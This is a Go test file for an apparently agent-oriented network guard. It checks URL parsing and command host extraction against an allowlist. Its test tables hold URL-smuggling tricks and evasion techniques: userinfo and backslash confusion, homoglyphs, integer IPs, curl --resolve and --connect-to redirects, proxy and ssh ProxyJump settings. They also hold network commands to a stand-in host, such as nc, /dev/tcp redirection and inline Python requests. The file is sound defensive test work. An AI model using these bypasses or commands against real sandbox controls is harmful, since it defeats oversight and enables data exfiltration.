package guard_test

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/agent-loop/shimgen/guard"
	"github.com/agent-loop/shimgen/policy"
	"github.com/agent-loop/shimgen/rules"
)

const allowList = "[network]\nmode = 'allowlist'\nallowed_domains = ['api.example.com', '*.example.org', 'github.com', '203.0.113.7', '2001:db8::1']"

// Which host a URL has, and what makes it none (mission row K1).
func TestK1URL(t *testing.T) {
	p := layered(t, allowList)
	for _, c := range []struct {
		reason, url, host string // "" where it is refused as no plain URL
		action            rules.Action
	}{
		{"a listed host", "https://api.example.com/v1?x=1#y", "api.example.com", rules.Allow},
		{"in capitals", "HTTPS://API.Example.COM/", "api.example.com", rules.Allow},
		{"with a port", "http://api.example.com:8443/", "api.example.com", rules.Allow},
		{"with a trailing dot", "https://api.example.com./", "api.example.com", rules.Allow},
		{"without a scheme", "api.example.com/v1", "api.example.com", rules.Allow},
		{"below a wildcard", "https://a.b.example.org/", "a.b.example.org", rules.Allow},
		{"the wildcard's own name", "https://example.org/", "example.org", rules.Ask},
		{"an address", "http://203.0.113.7/", "203.0.113.7", rules.Allow},
		{"an address of six", "http://[2001:db8::1]:80/", "2001:db8::1", rules.Allow},
		{"the same, written out", "http://[2001:DB8:0:0:0:0:0:1]/", "2001:db8::1", rules.Allow},
		{"this machine", "http://localhost:3000/", "localhost", rules.Allow},
		{"this machine of six", "http://[::1]/", "::1", rules.Allow},
		{"another host", "https://evil.example/", "evil.example", rules.Ask},
		{"a listed host as a suffix", "https://xapi.example.com/", "xapi.example.com", rules.Ask},
		{"a listed host as a label", "https://api.example.com.evil.example/", "api.example.com.evil.example", rules.Ask},
		{"a listed host in the path", "https://evil.example/api.example.com", "evil.example", rules.Ask},
		{"a listed host in the query", "https://evil.example?@api.example.com", "evil.example", rules.Ask},
		{"a listed host in the fragment", "https://evil.example#@api.example.com", "evil.example", rules.Ask},
		{"user information", "https://api.example.com@evil.example/", "", rules.Block},
		{"user and password", "https://a:b@api.example.com/", "", rules.Block},
		{"a backslash", `https://evil.example\@api.example.com/`, "", rules.Block},
		{"a backslash for a slash", `https:\\evil.example`, "", rules.Block},
		{"a tab", "https://api.example.com\t.evil.example/", "", rules.Block},
		{"a newline", "https://api.example.com\n.evil.example/", "", rules.Block},
		{"a NUL", "https://evil.example\x00.api.example.com/", "", rules.Block},
		{"a percent sign", "https://api.example.com%2eevil.example/", "", rules.Block},
		{"letters of another script", "https://аpi.example.com/", "", rules.Block},
		{"a full stop of another script", "https://api.example.com。evil.example/", "", rules.Block},
		{"an integer", "http://2130706433/", "", rules.Block},
		{"a hexadecimal integer", "http://0x7f000001/", "", rules.Block},
		{"octal parts", "http://0177.0.0.1/", "", rules.Block},
		{"two parts", "http://127.1/", "", rules.Block},
		{"an empty label", "http://api..example.com/", "", rules.Block},
		{"two trailing dots", "http://api.example.com../", "", rules.Block},
		{"a port that is none", "http://api.example.com:x/", "", rules.Block},
		{"a port out of range", "http://api.example.com:99999/", "", rules.Block},
		{"text after brackets", "http://[::1]evil.example/", "", rules.Block},
		{"four in brackets", "http://[203.0.113.7]/", "", rules.Block},
		{"a zone", "http://[fe80::1%25eth0]/", "", rules.Block},
		{"unclosed brackets", "http://[::1/", "", rules.Block},
		{"no host", "http:///x", "", rules.Block},
		{"nothing", "", "", rules.Block},
		{"another scheme", "ftp://api.example.com/", "", rules.Block},
		{"a file", "file:///etc/passwd", "", rules.Block},
		{"a script", "javascript:alert(1)", "", rules.Block},
		{"one slash", "https:/api.example.com", "", rules.Block},
	} {
		t.Run(c.reason+"/"+c.url, func(t *testing.T) {
			p := *p
			p.Actions = map[string]rules.Action{string(rules.Network): rules.Ask}
			m, req := guard.Model()
			host, d, err := guard.JudgeURL(&p, m, req, c.url)
			assert.Equal(t, c.host == "", err != nil, "%v", err)
			assert.Equal(t, c.host, host)
			assert.Equal(t, c.action.String(), d.Action.String())
		})
	}
}

// The hosts of commands against the list (mission row K2).
func TestK2Hosts(t *testing.T) {
	p := layered(t, allowList+"\n[actions]\nnetwork = 'block'")
	require.Equal(t, policy.AllowList, p.Network.Mode)
	const foreign = "net.host"
	runRows(t, p, []row{
		{"curl, listed", "curl -s https://api.example.com/x", rules.Allow, ""},
		{"curl, not listed", "curl https://evil.example", rules.Block, foreign},
		{"curl without a scheme", "curl evil.example/x", rules.Block, foreign},
		{"curl, one of two", "curl https://api.example.com https://evil.example", rules.Block, foreign},
		{"curl, after --next", "curl https://api.example.com --next https://evil.example", rules.Block, foreign},
		{"curl by --url", "curl --url https://evil.example", rules.Block, foreign},
		{"curl through a proxy", "curl -x evil.example:80 https://api.example.com", rules.Block, foreign},
		{"curl, to another address", "curl --resolve api.example.com:443:192.0.2.1 https://api.example.com", rules.Block, foreign},
		{"curl, every name to another address", "curl --resolve *:443:192.0.2.1 https://api.example.com", rules.Block, foreign},
		{"curl, one address of two", "curl --resolve +api.example.com:443:127.0.0.1,192.0.2.1 https://api.example.com", rules.Block, foreign},
		{"curl, to an address of IPv6", "curl --resolve api.example.com:443:[2001:db8::2] https://api.example.com", rules.Block, foreign},
		{"curl, to an address of IPv6 without brackets", "curl --resolve api.example.com:443:2001:db8::2 https://api.example.com", rules.Block, foreign},
		{"curl, to another host", "curl --connect-to ::evil.example:443 https://api.example.com", rules.Block, foreign},
		{"curl, one host to another", "curl --connect-to [::1]:443:evil.example: https://api.example.com", rules.Block, foreign},
		{"curl, names from another server", "curl --dns-servers 192.0.2.1 https://api.example.com", rules.Block, foreign},
		{"curl, to this machine", "curl --resolve api.example.com:443:127.0.0.1 --resolve api.example.com:80:[::1] https://api.example.com", rules.Allow, ""},
		{"curl, to another port", "curl --connect-to ::api.example.com:8443 --connect-to api.example.com:443::8443 https://api.example.com", rules.Allow, ""},
		{"curl, no address any more", "curl --resolve -api.example.com:443 https://api.example.com", rules.Allow, ""},
		{"a proxy from env", "env https_proxy=http://evil.example curl https://api.example.com", rules.Block, foreign},
		{"a proxy among wget's settings", "wget -e https_proxy=http://evil.example https://api.example.com", rules.Block, foreign},
		{"ssh, really another host", "ssh -o HostName=evil.example github.com", rules.Block, foreign},
		{"ssh, through another by a setting", "ssh -oProxyJump=evil.example github.com", rules.Block, foreign},
		{"curl as another user", "curl https://api.example.com@evil.example/", rules.Block, foreign},
		{"curl, path unknown", `curl "https://api.example.com/$x"`, rules.Allow, ""},
		{"wget, not listed", "wget https://evil.example/x", rules.Block, foreign},
		{"git over https", "git clone https://github.com/a/b", rules.Allow, ""},
		{"git over ssh", "git clone git@github.com:a/b.git", rules.Allow, ""},
		{"git over a URL of ssh", "git clone ssh://git@github.com/a/b", rules.Allow, ""},
		{"git, not listed", "git clone git@evil.example:a/b", rules.Block, foreign},
		{"git, a disguised host", "git clone ssh://git@github.com@evil.example/a", rules.Block, foreign},
		{"ssh, listed", "ssh me@github.com ls", rules.Allow, ""},
		{"ssh, not listed", "ssh evil.example", rules.Block, foreign},
		{"ssh, through another", "ssh -J evil.example github.com", rules.Block, foreign},
		{"scp, not listed", "scp a evil.example:b", rules.Block, foreign},
		{"nc, not listed", "nc evil.example 80", rules.Block, foreign},
		{"a redirection", "echo x > /dev/tcp/evil.example/80", rules.Block, foreign},
		{"inline code", `python3 -c 'import urllib.request; urllib.request.urlopen("https://evil.example")'`, rules.Block, foreign},
		{"this machine", "curl http://127.0.0.1:8000/health", rules.Allow, ""},
	})
	runRows(t, builtin(t, policy.Guarded), []row{
		{"localhost alone", "curl http://localhost:80/", rules.Allow, ""},
		{"and no other", "curl https://example.com/", rules.Ask, foreign},
		{"nor one that is not known", `curl "https://$U/x"`, rules.Ask, foreign},
	})
	runRows(t, builtin(t, policy.Cautious), []row{{"full", "curl https://evil.example", rules.Allow, ""}})
}
